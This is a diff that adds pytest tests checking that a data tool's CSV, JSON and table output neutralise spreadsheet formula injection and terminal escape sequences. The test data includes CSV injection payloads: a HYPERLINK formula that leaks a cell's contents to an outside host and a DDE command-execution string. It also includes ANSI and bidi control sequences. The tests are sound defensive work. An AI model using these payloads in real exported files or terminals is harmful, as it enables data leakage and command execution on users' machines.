@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from datetime import UTC, date, datetime
 from decimal import Decimal
 from typing import Any
@@ -12,7 +13,7 @@ from typing import Any
 import pyarrow as pa
 import pytest
 
-from fleetlake.serve.output import Form, cell, plain, printable, write_rows
+from fleetlake.serve.output import FORMULA, NUMBER, Form, cell, plain, printable, write_json, write_rows
 
 AT = datetime(2026, 1, 1, 8, 30, 0, 250_000, tzinfo=UTC)
 ROWS = pa.table(
@@ -45,6 +46,40 @@ def test_csv() -> None:
         ["a", "2026-01-01T08:30:00.250000Z", "1.5", "/w=="],
         ["b, c", "", "", "x"],
     ]
+
+
+HOSTILE = [
+    '=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\uff1d1+1", "'=1", "''=1",
+]  # fmt: skip
+KEPT = ["'tis", "-0.5", "+447700900123", "-1e-9", "a=b", "", " =1", "x\x1b[31m", "\x9b31m"]
+
+
+def test_csv_holds_no_formula_and_every_text_can_be_had_back() -> None:
+    rows = pa.table({"=1": HOSTILE + KEPT, "n": pa.array([-1.5] * len(HOSTILE + KEPT))})
+    (head, *cells) = csv.reader(io.StringIO(written(rows, Form.CSV), newline=""))
+    assert head == ["'=1", "n"]
+    assert {number for _, number in cells} == {"-1.5"}
+    texts = [text for text, _ in cells]
+    assert [text for text in texts if text[:1] in tuple("=+-@\t\r\n\uff1d") and not NUMBER.fullmatch(text)] == []
+    assert texts[len(HOSTILE) :] == KEPT
+    assert [text[1:] if FORMULA.match(text) and text[0] == "'" else text for text in texts] == HOSTILE + KEPT
+
+
+@pytest.mark.parametrize("form", [Form.CSV, Form.JSON, Form.TABLE])
+def test_nothing_controls_a_terminal(form: Form) -> None:
+    text = "".join(map(chr, range(0xA0))) + "\u061c\u200b\u200f\u2028\u202e\u2066\ufeff\x1b]0;owned\x07"
+    out = Terminal()
+    write_rows(pa.table({"\x1b[2J" + text: [text], "b": [text.encode()]}), form, out=out, title="x")
+    said = re.sub(r"\x1b\[[0-9;]*m", "", out.getvalue())  # what rich puts around a title
+    assert [char for char in said if not char.isprintable() and char != "\n"] == []
+    if form is Form.JSON:
+        assert json.loads(said)[0]["b"] == text
+
+
+def test_a_json_document_has_no_controls_either() -> None:
+    out = io.StringIO()
+    write_json({"a": "\x9b31m\u202eé"}, out)
+    assert out.getvalue() == '{\n  "a": "\\u009b31m\\u202eé"\n}\n'
 
 
 def test_a_table_off_the_terminal_is_aligned() -> None:
